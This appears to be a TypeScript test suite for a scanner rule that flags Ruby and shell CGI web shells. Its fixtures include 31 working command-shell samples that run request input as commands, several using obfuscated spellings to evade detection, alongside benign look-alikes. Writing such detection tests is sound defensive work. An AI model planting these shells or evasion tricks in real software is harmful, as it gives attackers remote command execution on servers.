import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { scriptCgiCommand } from './script-cgi.js';
import { createScanner } from './scanner.js';

// Ruby and shell CGI command shells (session 40; red team S39S's open items), written by us.
const scanner = createScanner({});
const scan = (src: string, path: string) => scanner.scanBuffer(Buffer.from(src, 'utf8'), path);
const why = (r: { score: number; findings: readonly { rule: string; score: number }[] }) => `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`;
const RB = "#!/usr/bin/env ruby\nrequire 'cgi'\ncgi = CGI.new\n";
const SH = '#!/bin/sh\necho "Content-type: text/plain"\necho\n';
const BASH = '#!/bin/bash\necho -e "Content-type: text/html\\n"\n';

const SHELLS: [string, string, string][] = [
  ['Ruby: a field in backticks', 't.rb', `${RB}cmd = cgi['cmd']\nputs cgi.header\nputs "<pre>#{\`#{cmd}\`}</pre>"\n`],
  ['Ruby: a field given to system', 't.cgi', `${RB}puts cgi.header\nsystem(cgi['c'])\n`],
  ['Ruby: a field in %x() through two names', 't.cgi', `${RB}a = cgi.params['x'][0]\nb = "#{a} 2>&1"\nputs cgi.header, %x(#{b})\n`],
  ['Ruby: IO.popen of a field', 'run.rb', `#!/usr/bin/ruby\nrequire "cgi"\nc = CGI.new("html4")\nprint c.header("text/plain")\nprint IO.popen(c.params["x"][0]).read\n`],
  ['Ruby: Open3 of the query string', 'q.cgi', `#!/usr/bin/ruby\nrequire 'open3'\nq = CGI.parse(ENV['QUERY_STRING'])\nout, st = Open3.capture2e(q['c'].first)\nputs "Content-Type: text/plain\\n\\n" + out\n`],
  ['Ruby: a piped open', 'p.rb', `${RB}c = cgi['c']\nopen("|#{c}") { |f| puts f.read }\n`],
  ['Ruby: eval of a field', 'e.rb', `${RB}puts cgi.header\neval(cgi['code'])\n`],
  ['Ruby: exec without brackets', 'x.cgi', `${RB}c = cgi['c']\nexec c if c\n`],
  ['shell: eval of the query string cut', 't.sh', `${SH}CMD=$(echo "$QUERY_STRING" | sed 's/cmd=//; s/+/ /g')\neval "$CMD"\n`],
  ['shell: bash -c of a field', 't.cgi', `${BASH}cmd=\`echo $QUERY_STRING | cut -d= -f2 | sed 's/%20/ /g'\`\necho "<pre>"; bash -c "$cmd"; echo "</pre>"\n`],
  ['shell: the body read to its length, run as a command', 'p.cgi', `${SH}read -n $CONTENT_LENGTH POST\nCMD=$(echo "$POST" | sed 's/^c=//')\n$CMD 2>&1\n`],
  ['shell: a field piped to sh', 'pipe.sh', `${SH}C="\${QUERY_STRING#c=}"\necho "$C" | /bin/sh 2>&1\n`],
  ['shell: a field in a command substitution', 'sub.cgi', `${SH}C=$(printf '%s' "$QUERY_STRING" | sed 's/c=//')\nOUT=$($C)\necho "$OUT"\n`],
  ['shell: a request header run after &&', 'h.cgi', `${SH}[ "$REQUEST_METHOD" = GET ] || exit 0\n[ -n "$HTTP_X_CMD" ] && $HTTP_X_CMD\n`],
  // (the sinks by name and a shell given the value in a list: red team S40's open Ruby items)
  ['Ruby: Kernel.send(:system, field)', 's.rb', `${RB}c = cgi['c']\nputs cgi.header\nKernel.send(:system, c)\n`],
  ['Ruby: public_send of "exec" with a field', 's2.cgi', `${RB}puts cgi.header\npublic_send("exec", cgi['x'])\n`],
  ['Ruby: method(:system).call(field)', 'm.rb', `${RB}puts cgi.header\nmethod(:system).call(cgi['x'])\n`],
  ['Ruby: method(:exec)[field]', 'm2.rb', `${RB}c = cgi['c']\nmethod(:exec)[c]\n`],
  ['Ruby: Open3.capture2e("bash", "-c", field)', 'l.rb', `#!/usr/bin/ruby\nrequire 'cgi'\nrequire 'open3'\ncgi = CGI.new\ncmd = cgi.params['q'][0]\nout, _ = Open3.capture2e("bash", "-c", cmd)\nputs cgi.header, out\n`],
  ['Ruby: system("sh", "-c", a string interpolating a field)', 'l2.rb', `${RB}t = cgi['t']\nsystem("sh", "-c", "ls #{t}")\n`],
  ['Ruby: spawn(["sh", "sh"], "-c", field)', 'l3.rb', `${RB}c = cgi['c']\npid = spawn(["sh", "sh"], "-c", c)\nProcess.wait(pid)\n`],
  // (words the shell reads whole though written in pieces; loops and functions: red team S40's open shell items)
  ['shell: e\'\'val of a field', 'q1.cgi', `${SH}C=$(echo "$QUERY_STRING" | sed s/c=//)\ne''val "$C"\n`],
  ['shell: ev\\<newline>al of a field', 'q2.cgi', `${SH}C=$(echo "$QUERY_STRING" | sed s/c=//)\nev\\\nal "$C"\n`],
  ['shell: $\'\\x65val\' of a field (bash\'s escapes, red team S41)', 'q5.cgi', `${SH}C=$(echo "$QUERY_STRING" | sed s/c=//)\n$'\\x65val' "$C"\n`],
  ['shell: b"as"h -c of a field', 'q3.cgi', `${SH}C=$(echo "$QUERY_STRING" | sed s/c=//)\nb"as"h -c "$C"\n`],
  ['shell: the body read by $(c\\at), run', 'q4.cgi', `${SH}C=$(c\\at)\n$C\n`],
  ['shell: a loop over the query string running each word', 'l.cgi', `${BASH}for c in $(echo "$QUERY_STRING" | tr "&" " "); do\n  $c\ndone\n`],
  ['shell: a function evaluating its argument, called with a field', 'f.cgi', `${SH}run() {\n  eval "$1"\n}\nC=$(echo "$QUERY_STRING" | sed s/c=//)\nrun "$C"\n`],
  ['shell: function f { sh -c "$*"; } called with the query string', 'f2.cgi', `${SH}function go { sh -c "$*"; }\ngo $QUERY_STRING\n`],
  // (no CGI variable named: the header printed, the body read by $(cat); the fourth file planted in session 40's tarball check)
  ['shell: a header printed, the body run after exec', 'run.cgi', `${SH}C=$(cat)\nexec $C\n`],
  ['shell: a header printed with printf, the body run by sh -c', 'p.cgi', "#!/bin/bash\nprintf 'Content-Type: text/plain\\n\\n'\nB=$(head -c 4096)\nbash -c \"$B\" 2>&1\n"],
];

const BENIGN: [string, string, string][] = [
  ['Ruby: a field given to a fixed program as an argument', 'conv.rb', `${RB}file = cgi['f']\nsystem("convert", file, "/tmp/out.png")\nputs cgi.header\n`],
  ['Ruby: fixed commands in backticks, a field printed', 'status.cgi', `${RB}name = cgi['name']\nup = \`uptime\`\nputs cgi.header\nputs "<p>Hello #{CGI.escapeHTML(name)}, #{up}</p>"\n`],
  ['Ruby: a comment naming system with a field', 'c.rb', `${RB}q = cgi['q']\n# system(q) would be unsafe here\nputs cgi.header, q.length\n`],
  ['Ruby: a Rails helper using CGI.escape and system with literals', 'helper.rb', "require 'cgi'\nmodule H\n  def link(q) = \"/s?q=#{CGI.escape(q)}\"\n  def reindex = system('rake', 'search:reindex')\nend\n"],
  ['shell: the query string parsed into a file name, cat', 'page.cgi', `${SH}PAGE=$(echo "$QUERY_STRING" | sed -n 's/^.*page=\\([a-z]*\\).*$/\\1/p')\ncat "/srv/pages/$PAGE.txt"\n`],
  ['shell: a case on the query string running fixed commands', 'st.cgi', `${SH}case "$QUERY_STRING" in\n  disk) df -h ;;\n  load) uptime ;;\nesac\n`],
  ['shell: a test of a field and arithmetic on the length', 'len.cgi', `${SH}if [ "$QUERY_STRING" = "" ]; then echo empty; fi\nN=$CONTENT_LENGTH\nif (( $N > 100 )); then echo big; fi\n[[ $QUERY_STRING == a* ]] && echo a\n`],
  ['shell: a script with no request, running its own variable', 'build.sh', '#!/bin/sh\nCC=${CC:-gcc}\n$CC -o app app.c\n'],
  ['shell: the query string echoed and logged', 'log.cgi', `${SH}echo "You asked for: $QUERY_STRING"\nlogger -t cgi "$QUERY_STRING"\nX=$QUERY_STRING\n`],
  ['Ruby: sh -c of an escaped field, send of other names, method(:system) of a literal', 'ok.rb', `${RB}require 'shellwords'\nt = cgi['t']\nsystem("sh", "-c", "ls #{Shellwords.escape(t)}")\nobj.send(:system_name, t)\nx = method(:system).call("uptime")\nself.send(:format, t)\nsystem("sh", "-c", "uptime")\n`],
  ['shell: "eval" as an argument, a function printing its argument, a loop over files, a wrapper of fixed commands', 'fn.cgi', `${SH}C=$QUERY_STRING\necho "eval" "$C"\nshow() {\n  echo "<p>$1</p>"\n}\nshow "$QUERY_STRING"\nfor f in /srv/*.txt; do cat "$f"; done\nfor w in $QUERY_STRING; do echo "$w"; done\ntry() { "$@" || echo failed; }\ntry cp /a /b\n`],
  ['shell: a header printed, the body saved to a file and fixed commands run', 'save.cgi', `${SH}B=$(cat)\nprintf '%s' "$B" > /var/spool/form/$$.txt\nwc -c < /var/spool/form/$$.txt\nuptime\n`],
  ['shell: a mail script printing a MIME header, no CGI', 'mail.sh', '#!/bin/sh\nBODY=$(cat)\n{\n  echo "Content-Type: text/plain; charset=utf-8"\n  echo\n  echo "$BODY"\n} | /usr/sbin/sendmail -t\n'],
];

describe('scan: Ruby and shell CGI command shells (session 40)', () => {
  for (const [name, file, src] of SHELLS) {
    it(`malicious: ${name}`, () => {
      const r = scan(src, `/usr/lib/cgi-bin/${file}`);
      assert.equal(r.verdict, 'malicious', why(r));
      assert.ok(r.findings.some((f) => f.rule === 'mamori:script-cgi'), why(r));
    });
  }
  it('ran every shell', () => assert.equal(SHELLS.length, 31));
  for (const [name, file, src] of BENIGN) {
    it(`not malicious: ${name}`, () => {
      const r = scan(src, `/usr/lib/cgi-bin/${file}`);
      assert.notEqual(r.verdict, 'malicious', why(r));
      assert.deepEqual(scriptCgiCommand(src, file), [], name);
    });
  }
  it('ran every look-alike', () => assert.equal(BENIGN.length, 13));
  it('calls the old eval of the query string as assignments an injectable CGI, suspicious', () => {
    const src = `${SH}eval $(echo "$QUERY_STRING" | sed 's/&/;/g')\necho "Hello $name"\n`;
    const f = scriptCgiCommand(src, 'hello.cgi');
    assert.equal(f.length, 1);
    assert.equal(f[0]!.technique, 'cgi-injection');
    assert.equal(scan(src, '/usr/lib/cgi-bin/hello.cgi').verdict, 'suspicious');
  });
  it('reads a shell kept under another name when it opens with a "#!" line, and not a .php without one', () => {
    assert.equal(scan(`${SH}eval "$QUERY_STRING"\n`, '/var/www/uploads/a.jpg').verdict, 'malicious');
    assert.deepEqual(scriptCgiCommand(`<?php echo 1; ?>\neval "$QUERY_STRING"\n`, 'a.php'), []);
  });
  it('reads past hostile runs (long lines of quotes, brackets, assignments) to the command that follows', () => {
    // (a line of 60,000 quotes once cost a look for the next newline at each: kept linear)
    const rb = `${RB}c = cgi['c']\n${" '".repeat(60000)}\n\`#{c}\`\n`;
    assert.equal(scriptCgiCommand(rb, 'x.rb').length, 1);
    const sh = `${SH}Q=$QUERY_STRING\n${'A=$B\n'.repeat(20000)}${'('.repeat(20000)}\neval "$Q"\n`;
    assert.equal(scriptCgiCommand(sh, 'x.cgi').length, 1);
  });
});
